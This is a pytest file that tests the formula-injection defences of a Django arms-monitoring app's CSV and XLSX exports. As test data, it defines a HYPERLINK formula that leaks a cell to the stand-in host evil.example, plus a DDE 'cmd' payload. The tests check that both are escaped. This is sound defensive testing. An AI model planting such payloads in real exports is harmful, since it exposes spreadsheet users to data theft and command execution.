"""No CSV or XLSX export hands a spreadsheet a formula to run (issue 18, part 6): a portal file whose country name
is `=HYPERLINK(...)` comes out of the IAFQ exports as text; numbers stay numbers."""

import csv
import io
from decimal import Decimal
from types import SimpleNamespace
from unittest import mock

import pytest
from openpyxl import load_workbook

from armstrace.core.spreadsheet import is_formula_like, safe_cell
from armstrace.monitoring import export, sdg
from armstrace.monitoring.portal import ImportRejected, import_portal_file
from armstrace.monitoring.tests.conftest import TIDY_2024

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Spain")'


@pytest.mark.parametrize("value, safe", [
    ("=1+2", "'=1+2"), ("+254 700", "'+254 700"), ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"), ("-3", "-3"), ("+1.5e3", "+1.5e3"),
    ("Spain", "Spain"), (-3, -3), (Decimal("-1.50"), Decimal("-1.50")), (None, None),
])
def test_safe_cell(value, safe):
    assert safe_cell(value) == safe


def _evil_portal_file(tmp_path):
    lines = TIDY_2024.read_text(encoding="utf-8-sig").splitlines()
    rows = [lines[0]] + [line.replace("ESP,Spain,", 'ESP,"' + EVIL.replace('"', '""') + '",')
                         for line in lines[1:] if line.startswith("ESP,")]
    path = tmp_path / "portal.csv"
    path.write_text("\n".join(rows) + "\n", encoding="utf-8")
    return path


@pytest.fixture
def spain(db, tmp_path):
    import_portal_file(_evil_portal_file(tmp_path))
    with mock.patch("armstrace.monitoring.views.get_profile") as profile:
        profile.return_value = type("P", (), {"country": "ESP", "name": "Spain"})()
        yield


@pytest.fixture
def client_in(client, user):
    client.force_login(user)
    return client


def test_iafq_csv_neutralises_the_portal_country(spain, client_in):
    text = client_in.get("/monitoring/iafq/2023.csv").content.decode()
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows and {r["Country"] for r in rows} == {"'" + EVIL}
    assert all(r["VALUE"].isdigit() for r in rows)
    assert not any(is_formula_like(v) for r in rows for v in r.values())


def test_iafq_xlsx_writes_the_portal_country_as_text(spain, client_in):
    ws = load_workbook(io.BytesIO(client_in.get("/monitoring/iafq/2023.xlsx").content)).active
    countries = [row[1] for row in ws.iter_rows(min_row=2)]
    assert countries and all(c.value == EVIL and c.data_type == "s" and c.quotePrefix for c in countries)
    assert all(isinstance(row[11].value, int) for row in ws.iter_rows(min_row=2))  # VALUE stays a number
    assert not any(c.data_type == "f" for row in ws.iter_rows() for c in row)


def test_command_line_iafq_export_is_neutralised_too(spain, tmp_path):
    rows = [SimpleNamespace(indicator="Arms seized", dimension="Total", category="Total", sex="na", age="na",
                            value=4)]
    text = export.to_csv(rows, 2023, "ESP")
    assert next(csv.DictReader(io.StringIO(text)))["Country"] == "'" + EVIL


def test_sdg_csv_cells_are_neutralised_and_numbers_kept():
    obs = SimpleNamespace(year=2023, value=Decimal("-1.50"), footnote="@SUM(A1)")
    row = next(csv.DictReader(io.StringIO(sdg.sdmx_csv("KEN", [obs]))))
    assert (row["OBS_VALUE"], row["COMMENT_OBS"]) == ("-1.50", "'@SUM(A1)")


@pytest.mark.django_db
def test_portal_csv_with_a_repeated_column_or_an_open_quote_is_refused(tmp_path):
    lines = TIDY_2024.read_text(encoding="utf-8-sig").splitlines()[:20]
    twice = tmp_path / "twice.csv"
    twice.write_text("\n".join([lines[0] + ",Country"] + [line + ",X" for line in lines[1:]]), encoding="utf-8")
    with pytest.raises(ImportRejected) as exc:
        import_portal_file(twice)
    assert exc.value.errors[0][0] == 1 and "Country" in exc.value.errors[0][1]
    open_quote = tmp_path / "quote.csv"
    open_quote.write_text("\n".join(lines[:7] + ['ALB,"Albania,Europe' + lines[7][12:]] + lines[8:]), encoding="utf-8")
    with pytest.raises(ImportRejected) as exc:
        import_portal_file(open_quote)
    assert exc.value.errors[0][0] == 8 and "unterminated quote" in exc.value.errors[0][1]
